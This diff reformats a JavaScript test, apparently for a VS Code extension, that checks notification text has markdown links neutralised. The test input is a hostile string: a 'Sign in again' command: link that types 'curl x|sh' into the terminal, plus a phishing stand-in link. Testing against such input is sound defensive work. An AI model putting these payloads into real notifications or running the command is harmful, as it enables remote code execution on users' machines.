@@ -7,11 +7,15 @@ describe('text from a file or a server in VS Code labels and notifications', () 
   });
 
   it('notificationText leaves no [label](target) for a notification to turn into a link that runs a command', () => {
-    const hostile = 'HTTP 401: [Sign in again](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D) or [docs](https://phish.example)';
+    const hostile =
+      'HTTP 401: [Sign in again](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D) or [docs](https://phish.example)';
     const shown = notificationText(hostile);
     // VS Code's linkedText.ts pattern for a notification link.
     assert.doesNotMatch(shown, /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)/i, shown);
-    assert.equal(shown, 'HTTP 401: [Sign in again] (command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D) or [docs] (https://phish.example)');
+    assert.equal(
+      shown,
+      'HTTP 401: [Sign in again] (command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D) or [docs] (https://phish.example)',
+    );
     assert.equal(notificationText('model \u202ex'), 'model <U+202E>x');
   });
 
